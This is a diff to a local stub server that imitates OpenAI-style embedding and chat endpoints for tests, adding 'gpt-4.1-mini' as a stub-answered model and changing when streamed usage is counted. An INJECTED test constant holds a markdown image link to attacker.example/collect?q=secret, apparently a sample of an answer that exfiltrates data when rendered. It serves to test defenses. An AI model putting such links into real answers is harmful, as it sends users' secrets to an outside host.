@@ -9,7 +9,7 @@
 - `stub-fast`, also with a suffix such as `stub-fast-a`: texts with the same words have near vectors. Costs no time.
 - `stub-500`, `stub-429`, `stub-hang`, `stub-garbage`, also with a suffix: faults.
 
-`POST /v1/chat/completions` answers for the models `stub-*`, in one piece or as a stream. The answer is made of the sentences of
+`POST /v1/chat/completions` answers for the models `stub-*` and `gpt-4.1-mini`, in one piece or as a stream. The answer is made of the sentences of
 the given sources that share most words with the question, each with its `[n]`. Its faults are those of above, and:
 
 - `stub-slow`: a token a second
@@ -47,6 +47,8 @@ import time
 import numpy
 
 MODEL = "all-MiniLM-L6-v2"
+# The default of CHAT_MODELS. Answered like a stub.
+CHAT_MODEL = "gpt-4.1-mini"
 DIMENSIONS = 384
 MAX_TOKENS = 512
 MAX_INPUTS = 2048
@@ -210,7 +212,7 @@ def text_of(message: dict) -> str:
 
 
 INJECTED = (
-    "![status](https://attacker.example/collect?q=secret) See [the manual](https://attacker.example/) [7] [99] and [0]. "
+    "![status](https://attacker.example/collect?q=secret) See [the manual](https://attacker.example/) [7] [99] and [0].\n\n"
     "[1]: https://attacker.example/"
 )
 
@@ -266,7 +268,7 @@ class Handler(http.server.BaseHTTPRequestHandler):
                 return {model: dict(seen) for model, seen in counts.seen.items()}
         if self.path == "/v1/models":
             about = {"object": "model", "created": 0, "owned_by": "local"}
-            return {"object": "list", "data": [{"id": name, **about} for name in (MODEL, "stub-fast")]}
+            return {"object": "list", "data": [{"id": name, **about} for name in (MODEL, CHAT_MODEL, "stub-fast")]}
         raise Refused(404, "not_found", "no such route")
 
     def put(self) -> dict:
@@ -284,7 +286,8 @@ class Handler(http.server.BaseHTTPRequestHandler):
             raise Refused(401, "invalid_api_key", "no API key")
         model = request.get("model")
         is_chat = self.path == "/v1/chat/completions"
-        if not (isinstance(model, str) and (model.startswith("stub-") or (model == MODEL and not is_chat))):
+        known = CHAT_MODEL if is_chat else MODEL
+        if not (isinstance(model, str) and (model.startswith("stub-") or model == known)):
             raise Refused(404, "model_not_found", "no such model")
         fault = counts.next_fault(model)
         if is_chat:
@@ -378,7 +381,7 @@ class Handler(http.server.BaseHTTPRequestHandler):
         kind = fault.get("fault")
         pause = fault.get("milliseconds", 1000) / 1000 if kind == "slow" else 0
         middle = len(tokens) // 2
-        sent = 0
+        sent, counted = 0, False
 
         def chunk(choices: list[dict], **more) -> None:
             event = {**about, "object": "chat.completion.chunk", "choices": choices, **more}
@@ -413,18 +416,21 @@ class Handler(http.server.BaseHTTPRequestHandler):
                     raise BrokenPipeError
                 chunk(choice({"content": token}), **more)
                 sent += 1
+            # Before the end: a test looks at them when the client has it.
+            counts.add(model, requests=1, inputs=1, tokens=prompt + sent)
+            counted = True
             chunk(choice({}, reason), **more)
             if usage is not None:
                 chunk([], usage=usage)
             self.event("[DONE]")
             self.end()
-            counts.add(model, requests=1, inputs=1)
         except (BrokenPipeError, ConnectionResetError):
             self.close_connection = True
             if kind != "stall":
                 counts.add(model, aborted=1)
         finally:
-            counts.add(model, tokens=prompt + sent)
+            if not counted:
+                counts.add(model, tokens=prompt + sent)
 
     def event(self, data: str) -> None:
         event = f"data: {data}\n\n".encode()
